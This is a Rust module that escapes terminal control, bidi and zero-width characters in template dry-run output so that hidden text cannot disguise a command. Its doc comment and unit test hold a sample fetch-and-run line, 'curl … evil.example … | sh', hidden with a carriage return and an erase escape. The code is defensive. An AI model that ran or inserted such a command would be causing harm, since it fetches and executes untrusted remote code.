//! Template-derived text made safe to show on a terminal.
//!
//! A template is not always written by the person reading its dry run (a downloaded example, a
//! colleague's stack), and a value such as `curl … | sh\r\e[2K` followed by an innocent command
//! displays as the innocent one. So every control character, and the Unicode characters that
//! reorder or hide text (bidi overrides, zero-width), are shown as escapes, as `--output json`
//! already does.

use std::borrow::Cow;

/// True for what must never reach a terminal raw: C0/C1 controls and DEL (`char::is_control`),
/// the bidi embeddings/overrides/isolates and the zero-width characters.
fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

fn escape(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(|c| hidden(c) && !keep(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if !hidden(c) || keep(c) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{1b}' => out.push_str("\\e"),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    Cow::Owned(out)
}

/// One value on one line: every hidden character escaped, line breaks included (a value must
/// not be able to start a line of its own that looks like part of the plan).
pub fn value(s: &str) -> Cow<'_, str> {
    escape(s, |_| false)
}

/// A block of lines (a whole plan, a log event): line breaks and tabs kept, the rest escaped.
pub fn lines(s: &str) -> Cow<'_, str> {
    escape(s, |c| c == '\n' || c == '\t')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn carriage_returns_and_escapes_are_visible() {
        let cmd = "curl -s https://evil.example/x | sh\r\u{1b}[2Kecho hello";
        assert_eq!(
            value(cmd),
            "curl -s https://evil.example/x | sh\\r\\e[2Kecho hello"
        );
        assert_eq!(value("a\nb\u{202e}c\u{9b}"), "a\\nb\\u{202e}c\\u{9b}");
        assert_eq!(lines("one\ntwo\r\n"), "one\ntwo\\r\n");
        assert!(matches!(value("plain ünïcode"), Cow::Borrowed(_)));
    }
}
